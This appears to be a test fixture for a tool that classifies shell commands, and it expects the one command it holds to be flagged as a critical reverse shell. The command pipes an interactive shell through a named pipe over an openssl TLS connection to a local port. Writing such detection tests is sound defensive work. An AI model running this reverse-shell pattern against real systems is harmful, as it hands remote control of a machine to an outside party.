# about: openssl s_client between two pipes
# expect: reverse_shell critical
# needs: python3 openssl
peer 4413 tls
mkfifo s; (timeout 6 sh -i <s 2>&1 | timeout 6 openssl s_client -quiet -connect 127.0.0.1:4413 >s 2>/dev/null) || true
done_typing
